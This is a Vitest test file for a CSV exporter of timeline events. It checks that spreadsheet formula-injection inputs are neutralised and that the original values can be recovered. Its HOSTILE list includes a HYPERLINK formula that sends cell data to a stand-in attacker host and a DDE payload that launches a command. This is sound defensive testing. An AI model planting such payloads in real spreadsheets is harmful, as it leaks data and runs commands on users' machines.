import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { timeline } from '../../../tests/timeline-data';
import { eventsCsv, restoreCell } from './data-exports';

describe('eventsCsv', () => {
	it('has a header and one row per event that a CSV reader gets back intact', () => {
		const csv = eventsCsv(timeline);
		const { data, errors } = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' });
		expect(errors).toEqual([]);
		expect(data[0]).toEqual([
			'id',
			'date',
			'end',
			'lane',
			'title',
			'summary',
			'claims',
			'sources',
			'importance'
		]);
		expect(data).toHaveLength(timeline.events.length + 1);
		const hamadan = data.find((row) => row[0] === 'hamadan-bomber-deployment-2016')!;
		const event = timeline.events.find((e) => e.id === hamadan[0])!;
		expect(hamadan.slice(1, 6)).toEqual([
			'2016-08-16',
			'2016-08-22',
			'Military operations and exercises',
			event.title,
			event.summaryText
		]);
		expect(hamadan[6]).toContain('syria (supports)');
		expect(hamadan[7]).toMatch(/^\[\d+\]( \[\d+\])*$/);
	});

	// Formulas a spreadsheet would run, or cells that look like escaped ones.
	const HOSTILE = [
		'=HYPERLINK("https://evil.example/?x="&A1,"click")',
		'@SUM(1+1)*cmd|" /C calc"!A0',
		'+1+1',
		'-2+3',
		'-30 °C in Tehran',
		'\t=1+1',
		'\r=1+1',
		'=1+1\nsecond line',
		'＝1+1',
		"'=1+1",
		"''@x",
		"'Axis of resistance'",
		'Plain title'
	];

	it('writes no cell a spreadsheet would run as a formula, and a reader gets each value back', () => {
		const hostile = {
			...timeline,
			events: timeline.events.map((event, index) => ({
				...event,
				title: HOSTILE[index % HOSTILE.length]!,
				summaryText: HOSTILE[(index + 1) % HOSTILE.length]!
			}))
		};
		const { data, errors } = Papa.parse<string[]>(eventsCsv(hostile).trimEnd(), {
			newline: '\r\n'
		});
		expect(errors).toEqual([]);
		const rows = data.slice(1);
		expect(rows).toHaveLength(hostile.events.length);
		rows.forEach((row, index) => {
			for (const cell of row)
				expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
			expect(row.map(restoreCell).slice(4, 6)).toEqual([
				hostile.events[index]!.title,
				hostile.events[index]!.summaryText
			]);
		});
		// What needs no neutralising is written as it is.
		const titles = rows.map((row) => row[4]);
		expect(titles).toContain("'Axis of resistance'");
		expect(titles).toContain('Plain title');
		expect(titles).toContain("'-30 °C in Tehran");
		expect(rows.every((row) => /^[1-3]$/.test(row[8]!))).toBe(true);
	});

	it('restoreCell drops only the apostrophe that was added', () => {
		expect(restoreCell("'=1+1")).toBe('=1+1');
		expect(restoreCell("''=1+1")).toBe("'=1+1");
		expect(restoreCell("'-5")).toBe('-5');
		expect(restoreCell("'Axis'")).toBe("'Axis'");
		expect(restoreCell('-5')).toBe('-5');
		expect(restoreCell('')).toBe('');
	});
});
